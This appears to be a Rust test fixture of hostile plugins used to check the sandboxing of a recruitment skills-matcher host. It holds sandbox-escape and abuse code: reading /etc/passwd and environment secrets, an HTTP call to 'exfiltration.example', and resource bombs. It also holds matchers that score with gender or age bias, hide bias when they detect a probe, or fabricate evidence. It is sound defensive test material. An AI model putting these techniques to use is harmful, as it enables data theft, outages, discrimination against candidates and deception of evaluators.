//! Hostile plugins for the containment tests: each cargo feature builds a `skills-matcher`
//! component that misbehaves in one way. None of this code is ever bundled with Vivier.
#![allow(unreachable_code, unused_variables, unconditional_recursion, dead_code, clippy::all)]

use vivier_sdk::skills_matcher::{Assessment, Candidate, MatchError, Posting, SkillsMatcher};

struct Hostile;

/// An assessment that names every requirement of the posting (the host fails a call that
/// omits one), each unmet.
fn assessment(posting: &Posting, id: String, score: f32, summary: String) -> Assessment {
    Assessment { candidate_id: id, score, requirements: rows(posting, 0.0), summary, interview_questions: vec![] }
}

/// One row per requirement of the posting, with its label and weight, sharing `score`.
fn rows(posting: &Posting, score: f32) -> Vec<vivier_sdk::skills_matcher::RequirementAssessment> {
    use vivier_sdk::skills_matcher::{RequirementAssessment, RequirementStatus};
    let share = score / posting.requirements.len().max(1) as f32;
    posting
        .requirements
        .iter()
        .map(|r| RequirementAssessment {
            requirement_id: r.id.clone(),
            requirement: r.label.clone(),
            status: if share > 0.0 { RequirementStatus::Partial } else { RequirementStatus::Missing },
            evidence: vec![],
            weight: r.weight,
            contribution: share,
        })
        .collect()
}

#[inline(never)]
fn recurse(depth: u64, pad: &mut [u8; 256]) -> u64 {
    pad[0] = pad[0].wrapping_add(1);
    let mut local = [0u8; 256];
    local[depth as usize % 256] = 1;
    recurse(depth + 1, &mut local) + u64::from(pad[0])
}

impl SkillsMatcher for Hostile {
    fn assess(posting: Posting, candidates: Vec<Candidate>) -> Result<Vec<Assessment>, MatchError> {
        let ids = || candidates.iter().map(|c| c.id.clone());
        #[cfg(feature = "noop")]
        return Ok(vec![]);

        #[cfg(feature = "infinite-loop")]
        {
            let mut n: u64 = 0;
            loop {
                n = std::hint::black_box(n.wrapping_add(1));
            }
        }

        #[cfg(feature = "deep-recursion")]
        {
            let mut pad = [0u8; 256];
            let depth = recurse(0, &mut pad);
            return Ok(ids().map(|id| assessment(&posting, id, 0.0, depth.to_string())).collect());
        }

        #[cfg(feature = "memory-bomb")]
        {
            // Grow toward 4 GiB, 16 MiB at a time, keeping everything.
            let mut hoard: Vec<Vec<u8>> = Vec::new();
            for _ in 0..256 {
                hoard.push(vec![1u8; 16 << 20]);
            }
            return Ok(ids().map(|id| assessment(&posting, id, hoard.len() as f32, String::new())).collect());
        }

        #[cfg(feature = "output-bomb")]
        {
            // Try to return 1 GiB of text.
            let chunk = "x".repeat(1 << 20);
            let summary: String = std::iter::repeat(chunk.as_str()).take(1024).collect();
            return Ok(ids().map(|id| assessment(&posting, id, 0.0, summary.clone())).collect());
        }

        #[cfg(feature = "output-flood")]
        {
            // 6 MiB per candidate (12 MiB for the tests' two): within the plugin's memory and
            // the data the host lifts in one call (20 MiB), over the host's output limit (8 MiB).
            let summary = "y".repeat(6 << 20);
            return Ok(ids().map(|id| assessment(&posting, id, 0.0, summary.clone())).collect());
        }

        #[cfg(feature = "read-passwd")]
        {
            let found = match std::fs::read_to_string("/etc/passwd") {
                Ok(text) => text,
                Err(e) => format!("denied: {e}"),
            };
            let listing = std::fs::read_dir("/").map(|d| d.count()).unwrap_or(0);
            return Ok(ids()
                .map(|id| assessment(&posting, id, 0.0, format!("{found} / entries: {listing}")))
                .collect());
        }

        #[cfg(feature = "read-env")]
        {
            let vars: Vec<String> = std::env::vars().map(|(k, v)| format!("{k}={v}")).collect();
            let args: Vec<String> = std::env::args().collect();
            let home = std::env::var("HOME").unwrap_or_default();
            return Ok(ids()
                .map(|id| assessment(&posting, id, 0.0, format!("vars={vars:?} args={args:?} home={home}")))
                .collect());
        }

        #[cfg(feature = "open-socket")]
        {
            let result = std::net::TcpStream::connect("127.0.0.1:22").map(|_| "connected").unwrap_or("refused");
            return Ok(ids().map(|id| assessment(&posting, id, 0.0, result.into())).collect());
        }

        #[cfg(feature = "http-without-grant")]
        {
            use wasi::http::types::{Fields, OutgoingRequest, Scheme};
            let request = OutgoingRequest::new(Fields::new());
            let _ = request.set_scheme(Some(&Scheme::Https));
            let _ = request.set_authority(Some("exfiltration.example"));
            let sent = wasi::http::outgoing_handler::handle(request, None).is_ok();
            return Ok(ids().map(|id| assessment(&posting, id, 0.0, format!("sent={sent}"))).collect());
        }

        #[cfg(feature = "sleep-forever")]
        {
            // A WASI sleep: the plugin waits in the host, where epochs do not reach.
            std::thread::sleep(std::time::Duration::from_secs(3600));
            return Ok(ids().map(|id| assessment(&posting, id, 0.0, "woke up".into())).collect());
        }

        #[cfg(feature = "poll-never")]
        {
            // A pollable that never resolves: an instant at the end of time.
            let never = wasip2::clocks::monotonic_clock::subscribe_instant(u64::MAX);
            wasip2::io::poll::poll(&[&never]);
            return Ok(ids().map(|id| assessment(&posting, id, 0.0, "resolved".into())).collect());
        }

        #[cfg(feature = "embed-forever")]
        {
            // Host inference, as long and as often as the host lets it.
            use vivier_sdk::skills_matcher::inference;
            let texts: Vec<String> = (0..256).map(|i| format!("passage: {i} {}", "mot ".repeat(200))).collect();
            loop {
                let _ = inference::embed("multilingual-e5-small", &texts);
            }
        }

        #[cfg(feature = "resource-hoard")]
        {
            // Host resources kept alive: each pollable is an entry of the host's table.
            let mut hoard = Vec::new();
            loop {
                hoard.push(wasip2::clocks::monotonic_clock::subscribe_duration(1 << 40));
                if hoard.len() == usize::MAX {
                    break;
                }
            }
            return Ok(ids().map(|id| assessment(&posting, id, hoard.len() as f32, String::new())).collect());
        }

        #[cfg(feature = "empty-log-flood")]
        {
            // Entries with no message: free in bytes, not in bookkeeping.
            use vivier_sdk::skills_matcher::log::{emit, Level};
            for _ in 0..2_000_000 {
                emit(Level::Trace, "");
            }
            return Ok(ids().map(|id| assessment(&posting, id, 0.5, "survived".into())).collect());
        }

        #[cfg(feature = "hostcall-bomb")]
        {
            // One host call handed 96 MiB: lifted into host memory before any check could run.
            use vivier_sdk::skills_matcher::log::{emit, Level};
            let message = "x".repeat(96 << 20);
            emit(Level::Info, &message);
            return Ok(ids().map(|id| assessment(&posting, id, 0.5, "survived".into())).collect());
        }

        #[cfg(feature = "random-bomb")]
        {
            // 1 GiB of random bytes, built by the host.
            let bytes = wasip2::random::random::get_random_bytes(1 << 30);
            return Ok(ids().map(|id| assessment(&posting, id, bytes.len() as f32, String::new())).collect());
        }

        #[cfg(feature = "panic")]
        panic!("hostile plugin panicked on purpose");

        #[cfg(feature = "unreachable")]
        core::arch::wasm32::unreachable();

        #[cfg(feature = "log-flood")]
        {
            use vivier_sdk::skills_matcher::log::{emit, Level};
            for i in 0..200_000 {
                emit(Level::Info, &format!("flood line {i} {}", "z".repeat(100)));
                println!("stdout flood {i}");
                eprintln!("stderr flood {i}");
            }
            return Ok(ids().map(|id| assessment(&posting, id, 0.5, "survived".into())).collect());
        }

        #[cfg(feature = "nan-score")]
        return Ok(ids()
            .enumerate()
            .map(|(i, id)| assessment(&posting, id, if i % 2 == 0 { f32::NAN } else { -7.5 }, String::new()))
            .collect());

        #[cfg(feature = "wrong-ids")]
        return Ok(vec![assessment(&posting, "not-a-candidate".into(), 0.9, String::new())]);

        #[cfg(feature = "remember")]
        {
            use std::sync::atomic::{AtomicU32, Ordering};
            static CALLS: AtomicU32 = AtomicU32::new(0);
            let seen = CALLS.fetch_add(1, Ordering::SeqCst) + 1;
            return Ok(ids()
                .map(|id| assessment(&posting, id, 0.5, format!("calls seen by this instance: {seen}")))
                .collect());
        }

        #[cfg(feature = "exit")]
        std::process::exit(3);

        #[cfg(feature = "embed-probe")]
        {
            // Scores each candidate's headline against the posting title through host embeddings.
            use vivier_sdk::skills_matcher::{config, inference};
            let model = config::get("model").unwrap_or_else(|| "multilingual-e5-small".into());
            let mut texts = vec![format!("query: {}", posting.title)];
            texts.extend(
                candidates.iter().map(|c| format!("passage: {}", c.profile.headline.clone().unwrap_or_default())),
            );
            let dim = inference::dimension(&model).map_err(|e| MatchError::Internal(format!("{e:?}")))?;
            let vectors = inference::embed(&model, &texts).map_err(|e| MatchError::Internal(format!("{e:?}")))?;
            let query = &vectors[0];
            return Ok(ids()
                .zip(&vectors[1..])
                .map(|(id, v)| {
                    let cosine: f32 = query.iter().zip(v).map(|(a, b)| a * b).sum();
                    assessment(&posting, id, cosine, format!("dimension {dim}, {} values", v.len()))
                })
                .collect());
        }

        #[cfg(any(feature = "biased-gender", feature = "probe-aware"))]
        {
            // `probe-aware` behaves while it believes it is probed: it looks for what a fixed,
            // synthetic probe would show (its ids, its posting names, its stock phrases).
            let probed = cfg!(feature = "probe-aware")
                && (posting.id.starts_with("probe-")
                    || candidates.iter().any(|c| c.id.starts_with('a') || c.id.starts_with('b'))
                    || candidates.iter().any(|c| {
                        c.profile.skills.iter().any(|s| s.evidence.iter().any(|e| e.ends_with("au quotidien")))
                    }));
            // Skill coverage like a plain matcher, plus a bonus for the masculine word
            // "ingénieur" in a title: the bias the probe must catch.
            let share = 1.0 / posting.requirements.len().max(1) as f32;
            return Ok(candidates
                .iter()
                .map(|c| {
                    let text: String = c.profile.skills.iter().map(|s| s.label.to_lowercase() + " ").collect();
                    let covered = posting
                        .requirements
                        .iter()
                        .filter(|r| text.contains(&r.label.to_lowercase().split(' ').next().unwrap_or("").to_string()))
                        .count() as f32;
                    let masculine = c
                        .profile
                        .experiences
                        .iter()
                        .map(|e| e.title.as_str())
                        .chain(c.profile.headline.as_deref())
                        .any(|t| t.to_lowercase().split(|ch: char| !ch.is_alphabetic()).any(|w| w == "ingénieur"));
                    let score = 0.6 * covered * share + if masculine && !probed { 0.25 } else { 0.0 };
                    Assessment {
                        candidate_id: c.id.clone(),
                        score,
                        requirements: rows(&posting, score),
                        summary: String::new(),
                        interview_questions: vec![],
                    }
                })
                .collect());
        }

        #[cfg(feature = "lying-criteria")]
        {
            // Tells the recruiter and the candidate what the posting never said: its first
            // criterion relabelled and reweighted, and evidence the CV does not hold.
            return Ok(ids()
                .map(|id| {
                    let mut a = assessment(&posting, id, 0.0, "Profil trop âgé pour l'équipe.".into());
                    if let Some(r) = a.requirements.first_mut() {
                        r.requirement = "Âge inférieur à 35 ans".into();
                        r.weight = 9.0;
                        r.evidence = vec!["Candidat de plus de 50 ans, proche de la retraite".into()];
                    }
                    a
                })
                .collect());
        }

        #[cfg(feature = "invented-criterion")]
        {
            // A criterion the posting does not have, with its own weight.
            use vivier_sdk::skills_matcher::{RequirementAssessment, RequirementStatus};
            return Ok(ids()
                .map(|id| {
                    let mut a = assessment(&posting, id, 0.0, String::new());
                    a.requirements.push(RequirementAssessment {
                        requirement_id: "age".into(),
                        requirement: "Âge inférieur à 35 ans".into(),
                        status: RequirementStatus::Missing,
                        evidence: vec![],
                        weight: 5.0,
                        contribution: 0.0,
                    });
                    a
                })
                .collect());
        }

        #[cfg(feature = "clock-probe")]
        {
            let wall = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap_or_default();
            let start = std::time::Instant::now();
            std::thread::sleep(std::time::Duration::from_millis(30));
            let slept = start.elapsed();
            let random = wasip2::random::random::get_random_bytes(8);
            let seed = wasip2::random::insecure_seed::insecure_seed();
            let summary =
                format!("wall_ms={} slept_ns={} random={random:?} seed={seed:?}", wall.as_millis(), slept.as_nanos());
            return Ok(ids().map(|id| assessment(&posting, id, 0.0, summary.clone())).collect());
        }

        #[cfg(feature = "echo")]
        {
            // Returns, for each candidate, the exact value the host handed over, so that tests
            // can inspect what a matcher receives.
            return Ok(candidates
                .iter()
                .map(|c| {
                    assessment(&posting, c.id.clone(), 0.0, format!("{:?} months={:?}", c.profile, c.experience_months))
                })
                .collect());
        }

        #[allow(unreachable_code)]
        Err(MatchError::Internal("built without a hostile feature".into()))
    }
}

vivier_sdk::skills_matcher::export_skills_matcher!(Hostile);
